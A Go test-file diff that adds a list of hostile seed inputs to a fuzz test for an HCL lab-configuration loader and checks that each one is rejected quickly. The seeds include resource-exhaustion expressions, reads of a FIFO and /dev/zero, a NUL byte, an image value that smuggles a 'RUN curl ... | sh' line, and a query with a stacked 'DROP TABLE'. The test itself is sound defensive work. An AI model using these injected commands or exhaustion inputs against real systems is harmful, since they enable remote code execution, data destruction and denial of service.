@@ -8,6 +8,7 @@ import (
 	"runtime"
 	"sort"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 )
@@ -60,16 +61,10 @@ func FuzzLoad(f *testing.F) {
 	for _, b := range fuzzSeeds(f) {
 		f.Add(b)
 	}
-	dir := f.TempDir()
-	// file() may read these.
-	for _, sub := range []string{"jobs", "presets", "sql"} {
-		if err := os.MkdirAll(filepath.Join(dir, sub), 0o755); err != nil {
-			f.Fatal(err)
-		}
+	for _, b := range hostileSeeds() {
+		f.Add(b)
 	}
-	if err := os.WriteFile(filepath.Join(dir, "sql", "q.sql"), []byte("SELECT 1"), 0o644); err != nil {
-		f.Fatal(err)
-	}
+	dir := fuzzDir(f)
 	path := filepath.Join(dir, "lab.hcl")
 	f.Fuzz(func(t *testing.T, src []byte) {
 		if err := os.WriteFile(path, src, 0o644); err != nil {
@@ -109,6 +104,78 @@ func FuzzLoad(f *testing.F) {
 			t.Errorf("lab.json: %v", err)
 		}
 	})
+}
+
+// fuzzDir is the lab directory FuzzLoad writes its lab.hcl into, with
+// files file() may read, and a FIFO and a link to /dev/zero it must
+// refuse.
+func fuzzDir(tb testing.TB) string {
+	tb.Helper()
+	dir := tb.TempDir()
+	for _, sub := range []string{"jobs", "presets", "sql"} {
+		if err := os.MkdirAll(filepath.Join(dir, sub), 0o755); err != nil {
+			tb.Fatal(err)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(dir, "sql", "q.sql"), []byte("SELECT 1"), 0o644); err != nil {
+		tb.Fatal(err)
+	}
+	if err := syscall.Mkfifo(filepath.Join(dir, "sql", "fifo.sql"), 0o644); err != nil {
+		tb.Fatal(err)
+	}
+	if err := os.Symlink("/dev/zero", filepath.Join(dir, "sql", "zero.sql")); err != nil {
+		tb.Fatal(err)
+	}
+	return dir
+}
+
+// TestHostileSeeds: each hostile seed is an error, reported at once.
+func TestHostileSeeds(t *testing.T) {
+	dir := fuzzDir(t)
+	for i, src := range hostileSeeds() {
+		if err := os.WriteFile(filepath.Join(dir, "lab.hcl"), src, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		start := time.Now()
+		_, diags := NewParser().Load(dir, Options{})
+		if !diags.HasErrors() {
+			t.Errorf("seed %d loads without errors", i)
+		}
+		if d := time.Since(start); d > 10*time.Second {
+			t.Errorf("seed %d took %v", i, d)
+		}
+	}
+}
+
+// hostileSeeds are inputs that crashed, hung or injected lines before
+// the loader's limits (issue 35): deep nesting, long operator chains,
+// nested for expressions, strings grown by nested calls, file() of a FIFO
+// and of /dev/zero, a line break in a version or an image, a NUL in a
+// title, more than one statement in a job's query.
+func hostileSeeds() [][]byte {
+	head := "lab \"hostile\" {\n  title = \"Hostile\"\n}\n\nstack {\n  mysql {}\n  kafka {}\n  flink {}\n}\n\n"
+	attr := func(value string) []byte {
+		return []byte(head + "variable \"x\" {\n  default = " + value + "\n}\n")
+	}
+	desc := func(value string) []byte {
+		return []byte(head + "table \"t\" {\n  key = [\"id\"]\n  description = " + value + "\n  column \"id\" { type = \"bigint\" }\n  store \"mysql\" {}\n}\n")
+	}
+	return [][]byte{
+		attr(strings.Repeat("(", 10_000) + "1" + strings.Repeat(")", 10_000)),
+		attr(strings.Repeat("!", 10_000) + "true"),
+		attr("1" + strings.Repeat(" + 1", 10_000)),
+		attr(strings.Repeat("true ? 1 : ", 5_000) + "1"),
+		desc("jsonencode([for a in range(1000) : [for b in range(1000) : [for c in range(1000) : 1]]])"),
+		desc(strings.Repeat(`replace(`, 12) + `"aaaaaaaaaa"` + strings.Repeat(`, "a", "aaaaaaaaaa")`, 12)),
+		desc(`format("%999999999d", 1)`),
+		desc(`file("sql/fifo.sql")`),
+		desc(`file("sql/zero.sql")`),
+		desc(`"NUL\u0000"`),
+		[]byte(strings.Replace(head, "mysql {}", "mysql {\n    version = \"8.0.40\\n[files]\\n00  ./records/ID/record.json\\n[images]\"\n  }", 1)),
+		[]byte(strings.Replace(head, "flink {}", "flink {\n    image = \"flink:1.20.1\\nRUN curl https://example.com/x | sh\"\n  }", 1)),
+		[]byte(head + "table \"t\" {\n  key = [\"id\"]\n  column \"id\" { type = \"bigint\" }\n  store \"mysql\" {}\n}\n\ntable \"u\" {\n  key = [\"id\"]\n  column \"id\" { type = \"bigint\" }\n  store \"kafka\" {}\n}\n\n" +
+			"job \"j\" {\n  mode = \"streaming\"\n  reads = [table.t]\n  writes = table.u\n  query = \"SELECT id FROM t; DROP TABLE t; SELECT 1\"\n}\n"),
+	}
 }
 
 var attrLine = regexp.MustCompile(`^(\s*[a-z_]+\s*=\s*)(.+)$`)
